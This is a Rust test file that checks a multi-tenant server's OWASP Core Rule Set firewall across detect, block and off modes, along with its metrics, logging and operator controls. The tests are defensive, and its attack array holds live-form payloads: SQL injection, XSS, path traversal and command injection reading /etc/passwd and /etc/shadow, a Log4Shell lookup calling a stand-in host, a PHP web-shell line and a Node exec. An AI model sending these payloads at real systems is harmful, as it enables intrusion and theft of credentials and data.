//! Requests compared with the OWASP Core Rule Set, as Debian has it: attacks are told or refused, as each tenant's mode has
//! it, and what clients ask for goes on. Other rules than that set show what the server does when rules are wrong.

mod ordinary;
mod rules;

use serde_json::{Value, json};

use crate::audit;
use crate::operators::platform;
use crate::support::{Answer, Conn, Engine, Options, Server, Tenant, on_both_engines};
use crate::watch::metric;

/// Without what is for answers, and for the time after them.
const RULES: &str = "/etc/modsecurity/crs/crs-setup.conf,/usr/share/modsecurity-crs/rules/REQUEST-*.conf";
const MATCHES: &str = "freehold_waf_matches_total";
const UNSEEN: &str = "freehold_waf_uninspected_total";

on_both_engines! {
    an_operator_decides_for_each_tenant_and_no_admin_does
}

async fn start(engine: Engine, mode: &str) -> Server {
    start_with(engine, RULES, mode).await
}

async fn start_with(engine: Engine, rules: &str, mode: &str) -> Server {
    Server::start(options(engine, rules, mode)).await
}

fn options(engine: Engine, rules: &str, mode: &str) -> Options {
    Options::new(engine).limits_off().env("FREEHOLD_WAF_RULES", rules).env("FREEHOLD_WAF_MODE", mode)
}

/// What the command line says of a tenant's mode.
#[track_caller]
fn set(server: &Server, slug: &str, mode: &str) -> Value {
    let told = server.cli(&["tenant", "waf", slug, mode], "");
    assert!(told.status.success(), "{}", String::from_utf8_lossy(&told.stderr));
    serde_json::from_slice(&told.stdout).unwrap()
}

/// A request that is an attack.
struct Attack {
    target: &'static str,
    header: (&'static str, &'static str),
    /// JSON that is posted, if it is not empty.
    body: &'static str,
    /// A rule that must find it.
    rule: &'static str,
}

const fn get(target: &'static str, rule: &'static str) -> Attack {
    Attack { target, header: ("accept", "*/*"), body: "", rule }
}

const fn header(name: &'static str, value: &'static str, rule: &'static str) -> Attack {
    Attack { target: "/", header: (name, value), body: "", rule }
}

const fn post(target: &'static str, body: &'static str, rule: &'static str) -> Attack {
    Attack { target, header: ("accept", "*/*"), body, rule }
}

/// None that the request filter refuses already.
const ATTACKS: [Attack; 20] = [
    get("/v1/audit?actor=1%27%20and%201%3D1--", "942100"),
    get("/?page=php://input", "933140"),
    get("/?c=phpinfo()", "933160"),
    get("/?u=http://169.254.169.254/latest/meta-data/", "931100"),
    get("/?x=%3Csvg%20onload%3Dalert(1)%3E", "941100"),
    get("/?cmd=%3Bcat%20/etc/hosts%20/etc/shadow", "932160"),
    header("user-agent", "sqlmap/1.7", "913100"),
    header("user-agent", "Nikto/2.1.6", "913100"),
    header("referer", "https://x.test/<script>alert(1)</script>", "941110"),
    post("/v1/auth/login", r#"{"email":"a@b.c' OR '1'='1' --","password":"x"}"#, "942100"),
    post("/v1/auth/register", r#"{"email":"a@b.test","name":"<script>alert(document.cookie)</script>"}"#, "941110"),
    post("/v1/members", r#"{"name":"; cat /etc/passwd"}"#, "932160"),
    post("/v1/members", r#"{"name":"../../../../etc/passwd"}"#, "930100"),
    post("/v1/members", r#"{"name":"<img src=x onerror=alert(1)>"}"#, "941120"),
    post("/v1/members", r#"{"name":"${jndi:ldap://evil.test/a}"}"#, "932130"),
    post("/v1/members", r#"{"name":"1; DROP TABLE users; --"}"#, "942100"),
    post("/v1/members", r#"{"name":"1 UNION SELECT username, password FROM users--"}"#, "942190"),
    post("/v1/members", r#"{"name":"<?php system($_GET['c']); ?>"}"#, "933100"),
    post("/v1/members", r#"{"a":{"b":["x","process.mainModule.require('child_process').exec('id')"]}}"#, "933160"),
    post("/v1/members", r#"{"name\" onload=\"x":1,"next":"javascript:alert(1)//<svg/onload=x>"}"#, "941100"),
];

impl Attack {
    async fn strike(&self, conn: &mut Conn) -> Answer {
        if self.body.is_empty() {
            return conn.send(conn.request("GET", self.target, &[self.header], b"")).await;
        }
        let headers = [self.header, ("content-type", "application/json")];
        conn.send(conn.request("POST", self.target, &headers, self.body.as_bytes())).await
    }
}

/// How often this rule found something in this mode.
async fn found(server: &Server, rule: &str, mode: &str) -> u64 {
    metric(server, &format!("{MATCHES}{{rule=\"{rule}\",mode=\"{mode}\"}}")).await
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_are_told_or_refused_as_the_tenants_mode_has_it() {
    let server = start(Engine::Sqlite, "detect").await;
    let [watched, closed, open] = ["watched", "closed", "open"].map(|slug| server.tenant(slug));
    set(&server, "closed", "block");
    set(&server, "open", "off");
    let mut to_watched = Conn::to(&server, &watched).await;
    let mut to_closed = Conn::to(&server, &closed).await;
    let mut to_open = Conn::to(&server, &open).await;
    for attack in &ATTACKS {
        let named = (attack.target, attack.header, attack.body);
        let before = (metric(&server, MATCHES).await, found(&server, attack.rule, "detect").await);
        let unseen = attack.strike(&mut to_open).await;
        assert_eq!(metric(&server, MATCHES).await, before.0, "off looks at nothing: {named:?}");

        let told = attack.strike(&mut to_watched).await;
        assert_eq!(
            (told.status, told.header("content-type")),
            (unseen.status, unseen.header("content-type")),
            "{named:?}"
        );
        assert_eq!(found(&server, attack.rule, "detect").await, before.1 + 1, "{named:?}: {}", server.log());

        let before = found(&server, attack.rule, "block").await;
        let refused = attack.strike(&mut to_closed).await;
        assert_eq!((refused.status.as_u16(), refused.problem()), (403, "forbidden".to_owned()), "{named:?}");
        assert!(refused.header("content-security-policy").is_some() && refused.header("x-request-id").is_some());
        assert!(!String::from_utf8_lossy(&refused.body).contains(attack.rule), "whoever attacks learns no rule");
        assert_eq!(found(&server, attack.rule, "block").await, before + 1, "{named:?}");
    }
    assert_eq!(metric(&server, UNSEEN).await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_with_an_api_key_is_looked_at_too() {
    let server = start(Engine::Sqlite, "block").await;
    let acme = server.tenant("acme");
    let mut conn = Conn::to(&server, &acme).await;
    let access = conn.sign_in(&acme).await.access;
    let made = conn.post("/v1/api-keys", Some(&access), &json!({ "name": "server", "kind": "secret" })).await;
    let key = made.is(201).json()["key"].as_str().unwrap().to_owned();
    let mut api = Conn::open(server.http, "api.localhost").await;
    let mut ask = async |agent: &str| {
        api.send(api.request("GET", "/v1/config", &[("x-nd-key", &key), ("user-agent", agent)], b"")).await
    };
    ask("shop/1.0").await.is(200);
    ask("sqlmap/1.7").await.is_problem(403, "forbidden");
    set(&server, "acme", "detect");
    ask("sqlmap/1.7").await.is(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_log_says_which_rules_and_never_what_they_found() {
    let options = options(Engine::Sqlite, RULES, "detect").env("FREEHOLD_LOG", "info,zentinel_modsec=trace");
    let server = Server::start(options).await;
    let acme = server.tenant("acme");
    let mut conn = Conn::to(&server, &acme).await;
    let body = json!({ "email": "canary-7f3a' or 1=1 --", "password": "canary-7f3a <script>" }).to_string();
    let headers = [("content-type", "application/json"), ("user-agent", "sqlmap canary-7f3a")];
    for mode in ["detect", "block"] {
        set(&server, "acme", mode);
        let answer = conn.send(conn.request("POST", "/v1/auth/login?q=canary-7f3a", &headers, body.as_bytes())).await;
        assert_eq!(answer.status.as_u16(), if mode == "block" { 403 } else { 400 });
        conn.send(conn.request("POST", "/v1/auth/login", &headers, b"{\"canary-7f3a")).await;
        let id = answer.header("x-request-id").unwrap().to_owned();
        let log = server.log();
        let lines: Vec<Value> = log
            .lines()
            .map(|line| serde_json::from_str::<Value>(line).unwrap())
            .filter(|line| line["span"]["request.id"] == id.as_str() && line.get("waf.rules").is_some())
            .collect();
        let [line] = &lines[..] else { panic!("one line: {log}") };
        let seen = (line["tenant.slug"].as_str(), line["waf.mode"].as_str(), line["waf.refused"].as_bool());
        assert_eq!(seen, (Some("acme"), Some(mode), Some(true)));
        assert_eq!(line["waf.rules"], "913100 942100 949110", "not the script, which is in a password: {line}");
    }
    assert!(!server.log().contains("canary"), "{}", server.log());
}

async fn an_operator_decides_for_each_tenant_and_no_admin_does(engine: Engine) {
    let server = start(engine, "off").await;
    let (acme, globex) = (server.tenant("acme"), server.tenant("globex"));
    let strike = async |server: &Server, tenant: &Tenant| {
        let mut conn = Conn::to(server, tenant).await;
        conn.send(conn.request("GET", "/v1/me", &[("user-agent", "sqlmap/1.7")], b"")).await.status.as_u16()
    };
    assert_eq!(strike(&server, &acme).await, 401, "the server's own mode is off");
    assert_eq!(set(&server, "acme", "block"), json!({ "slug": "acme", "waf": "block", "in_force": "block" }));
    assert_eq!(set(&server, "acme", "block"), json!({ "slug": "acme", "waf": "block", "in_force": "block" }));
    assert_eq!((strike(&server, &acme).await, strike(&server, &globex).await), (403, 401));

    let mut conn = Conn::to(&server, &acme).await;
    let access = conn.sign_in(&acme).await.access;
    conn.patch("/v1/settings", &access, &json!({ "waf": "off" })).await.is_problem(400, "validation");
    conn.patch("/v1/settings", &access, &json!({ "session_idle_s": 900 })).await.is(200);
    assert_eq!(strike(&server, &acme).await, 403, "what an admin changes leaves it as it is");
    let log = audit::log(&mut conn, &access).await;
    let rows: Vec<_> = log.iter().filter(|row| row["action"] == "settings.changed").collect();
    let [row, _] = rows[..] else { panic!("one row for each change: {log:?}") };
    assert_eq!(
        (&row["actor"]["kind"], &row["changes"]),
        (&json!("operator"), &json!([{ "field": "waf", "from": "default", "to": "block" }]))
    );

    let server = server.restarted();
    assert_eq!(strike(&server, &acme).await, 403, "it outlives the server");
    assert_eq!(set(&server, "acme", "default"), json!({ "slug": "acme", "waf": "default", "in_force": "off" }));
    assert_eq!(strike(&server, &acme).await, 401);
    assert_eq!(server.cli(&["tenant", "waf", "nobody", "block"], "").status.code(), Some(65));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_without_rules_gives_no_tenant_a_mode() {
    let server = Server::start(Options::new(Engine::Sqlite)).await;
    server.tenant("acme");
    let refused = server.cli(&["tenant", "waf", "acme", "block"], "");
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(refused.status.code() == Some(65) && said.contains("FREEHOLD_WAF_RULES"), "{said}");
    assert_eq!(set(&server, "acme", "default")["in_force"], "off");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_rule_set_and_the_mode_are_told_as_they_are() {
    let server = start(Engine::Sqlite, "detect").await;
    let acme = server.tenant("acme");
    let told = async |host: &str| {
        let all = Conn::open(server.http, host).await.get("/security.json", None).await.is(200).json();
        let found = all["promises"].as_array().unwrap().iter().find(|entry| entry["id"] == "K12").cloned();
        found.unwrap()
    };
    let everybody = told("localhost").await;
    assert_eq!(everybody["parameters"]["mode"], "detect", "{everybody}");
    assert_eq!(everybody["parameters"]["rule_set"], json!(["OWASP_CRS/3.3.4"]));
    assert!(everybody["parameters"]["rules"].as_u64().unwrap() > 400, "{everybody}");
    set(&server, "acme", "block");
    let tenant = told(&acme.host()).await;
    assert_eq!(tenant["parameters"]["mode"], "block");
    assert!(tenant["how"].as_str().unwrap().contains("refuses those"), "{tenant}");
    set(&server, "acme", "off");
    let filter = told(&acme.host()).await;
    assert!(filter["how"].as_str().unwrap().contains("is not a web application firewall"), "{filter}");
    assert!(filter["parameters"].get("mode").is_none() && filter["kept"] == true);
}

/// A report of a weakness says how it is used: no rule keeps it from the operators.
#[tokio::test(flavor = "multi_thread")]
async fn a_report_of_a_weakness_may_show_the_attack() {
    let server = start(Engine::Sqlite, "block").await;
    let acme = server.tenant("acme");
    platform(&server).await;
    let mut conn = Conn::to(&server, &acme).await;
    let attack = "1 UNION SELECT username, password FROM users--<script>alert(document.cookie)</script>";
    conn.post("/v1/members", None, &json!({ "name": attack })).await.is_problem(403, "forbidden");
    conn.post("/v1/security-reports", None, &json!({ "text": attack })).await.is(201);
}
